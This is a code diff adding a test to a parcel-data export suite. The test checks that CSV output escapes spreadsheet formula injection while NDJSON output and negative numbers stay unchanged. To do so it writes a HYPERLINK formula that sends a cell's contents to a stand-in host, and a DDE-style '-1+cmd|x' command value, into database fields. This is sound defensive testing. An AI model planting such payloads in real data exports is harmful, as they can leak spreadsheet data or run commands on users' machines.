@@ -127,6 +127,29 @@ test('GDAL reads a CSV', async () => {
   })
 })
 
+test('no text of a CSV is a formula in a spreadsheet; negative numbers and the other formats are unchanged', async () => {
+  const formula = '=HYPERLINK("http://x.example?"&A1)'
+  const [parcel] = await sql<Record<string, unknown>[]>`
+    select id, source_parcel_id, owner_name, owner_names_all, situs_address from parcels where lon < 0 limit 1`
+  await sql`
+    update parcels set owner_name = ${formula}, owner_names_all = ${[formula, 'ELM']}, situs_address = '-1+cmd|x'
+    where id = ${String(parcel?.id)}`
+  try {
+    const fields = ['lon', 'owner_name', 'owner_names_all', 'situs_address'] as const
+    const lines = async (format: 'csv' | 'ndjson') =>
+      (await Bun.file(await write(format, { fields, geometry: 'none' })).text()).split(/\r?\n/)
+    const quoted = formula.replaceAll('"', '""')
+    const row = (await lines('csv')).find((line) => line.includes('HYPERLINK'))
+    expect(row).toEndWith(`"'${quoted}","'${quoted}; ELM",'-1+cmd|x`)
+    expect(row).toContain(',-120.123456789,')
+    const json = JSON.parse((await lines('ndjson')).find((line) => line.includes('HYPERLINK')) ?? '{}')
+    expect(json).toMatchObject({ owner_name: formula, owner_names_all: [formula, 'ELM'], situs_address: '-1+cmd|x' })
+  } finally {
+    const { id, ...former } = parcel ?? {}
+    await sql`update parcels set ${sql(former)} where id = ${String(id)}`
+  }
+})
+
 const parseLists: Convert = (value, { type }) =>
   type === 'list' && typeof value === 'string' ? JSON.parse(value) : value
 
